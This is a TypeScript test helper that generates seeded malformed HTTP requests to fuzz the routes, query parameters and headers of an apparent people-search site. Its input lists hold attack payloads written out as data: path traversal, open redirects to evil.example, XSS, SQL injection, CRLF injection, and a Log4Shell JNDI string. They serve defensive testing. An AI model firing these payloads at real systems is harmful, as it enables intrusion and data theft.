import { seeded } from './random.ts';

export interface BadRequest {
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
}

/** Pieces that have broken routers, parsers and redirects elsewhere. */
const NASTY = [
  '',
  '-',
  '--',
  '.',
  '..',
  '../',
  '..%2f',
  '..%5c',
  '%2e%2e',
  '%2E%2E%2F',
  '/',
  '//',
  '//evil.example',
  '\\\\evil.example',
  '%2f%2fevil.example',
  '%5cevil.example',
  'http:%2f%2fevil.example',
  'https://evil.example',
  'javascript:alert(1)',
  '@evil.example',
  '%',
  '%2',
  '%zz',
  '%c3%28',
  '%ff',
  '%00',
  'a%00b',
  '%0d%0aSet-Cookie:x=1',
  '%0a',
  '%7f',
  '%e2%80%a8',
  '%25',
  '%2525',
  '%252e%252e',
  ';',
  'a;b',
  ';jsessionid=1',
  '?',
  '#',
  '%23',
  '%3f',
  '%3b',
  "'",
  "o'neil",
  '"',
  '%22',
  '<script>',
  '%3Cscript%3E',
  '&',
  '=',
  '+',
  '~',
  '_',
  'Maya-Ostrowski',
  'Portland-OR',
  'J',
  'Łukasz',
  '%F0%9F%92%A1',
  '%D0%98%D0%B2%D0%B0%D0%BD',
  '日本',
  '%E6%97%A5',
  '2',
  '3',
  '5',
  '6',
  '0',
  '-1',
  '1e9',
  '99999999999999999999',
  '123456789012',
  'NaN',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  'P',
  'Pabcdefghijklmno',
  'P.css',
  'Pabcdefghijk.css',
  `${'A'.repeat(43)}=`,
  `${'A'.repeat(42)}%2B%3D`,
  `${'a'.repeat(43)}%3D`,
  'A'.repeat(44),
  'x'.repeat(300),
  'x'.repeat(10_000),
  '%41'.repeat(500),
  '9'.repeat(10_000),
  "1' OR '1'='1",
  '%27%20OR%201%3D1--',
  '*',
  '%25%25',
  '_%',
  '$where',
  '{{7*7}}',
  '\u0024{7*7}',
  '..;/',
  'con',
  'favicon.ico',
  'index.php',
  '.env',
  '.git',
  'wp-admin',
  '%20',
  '%09',
  'a b'.replace(' ', '%20'),
] as const;

const ROOTS = [
  '/',
  '/name/',
  '/name/Maya-Ostrowski/',
  '/name/-/-/',
  '/name/Maya-Ostrowski/Portland-OR/',
  '/search',
  '/people-search',
  '/auth/login',
  '/api/',
  '/api/search/people',
  '/api/v4/person/details',
  '/api/person/counts',
  '/phone/',
  '/address/',
  '/property/',
  '/directory/name/',
  '/checkout/summary',
  '/billing/manage-plan',
  '/assets/',
  '/.well-known/',
  '/opt-out',
  '//',
  '/..//',
  '/%2f',
] as const;

const QUERY_NAMES = [
  'page',
  'full',
  'is_free',
  'stub',
  'deltas_seen',
  'monitor',
  'redirect',
  'path',
  'name',
  'location',
  'propertyUrl',
  'email',
  'personId',
  'is_weekend',
  'from_monitored_reports',
  'show_info_banner',
  '__proto__',
  'x[]',
  '',
  '%00',
  '%',
] as const;

const HEADERS = [
  ['cookie', 'session=; session=a; __Host-session=%00; user_id=../../x'],
  ['cookie', `session=${'x'.repeat(4_000)}`],
  ['cookie', '=;;;===; \u00ff=\u00fe'],
  ['user-agent', ''],
  ['user-agent', 'Googlebot/2.1 (+http://www.google.com/bot.html)'],
  ['user-agent', '%s%n\u0024{jndi:ldap://evil.example}'],
  ['accept', '\u00ff'],
  ['accept-language', 'x'.repeat(2_000)],
  ['referer', 'https://www.google.com.evil.example/'],
  ['origin', 'null'],
  ['sec-purpose', 'prefetch;prerender'],
  ['sec-fetch-dest', 'document'],
  ['x-edge-bot-class', 'search-engine'],
  ['x-edge-signature', 'deadbeef'],
  ['x-forwarded-host', 'evil.example'],
  ['x-forwarded-for', '1.2.3.4, %00'],
  ['x-http-method-override', 'DELETE'],
  ['if-none-match', '*'],
  ['range', 'bytes=0-0,-1'],
  ['content-type', 'text/html\u00ff'],
] as const;

/** `count` requests that should get a clear page or the expected redirect, the same every time. */
export function badRequests(seed: number, count: number): BadRequest[] {
  const random = seeded(seed);
  return Array.from({ length: count }, (_, index) => {
    // Limits count a /64 as one client, so every request comes from its own /64.
    const client = `2001:db8:0:${(index % 65_000).toString(16)}::1`;
    const headers: Record<string, string> = { 'x-local-client': client };
    if (random.below(3) === 0) {
      const [name, value] = random.pick(HEADERS);
      headers[name] = value;
    }
    return { path: badPath(random), headers };
  });
}

function badPath(random: ReturnType<typeof seeded>): string {
  let path: string = random.pick(ROOTS);
  for (let segments = random.below(4); segments > 0; segments -= 1) {
    path += random.pick(NASTY);
    if (random.below(3) > 0) path += '/';
  }
  if (random.below(3) === 0) {
    const pairs = Array.from(
      { length: 1 + random.below(3) },
      () => `${random.pick(QUERY_NAMES)}=${random.pick(NASTY)}`,
    );
    path += `?${pairs.join('&')}`;
  }
  return sendable(path);
}

/** What an HTTP client can put on a request line: the bytes of the text, only printable ASCII. */
function sendable(path: string): string {
  const start = path.startsWith('/') ? path : `/${path}`;
  return Array.from(Buffer.from(start, 'utf8'), (byte) =>
    byte > 0x20 && byte < 0x7f ? String.fromCharCode(byte) : `%${byte.toString(16).padStart(2, '0')}`,
  ).join('');
}
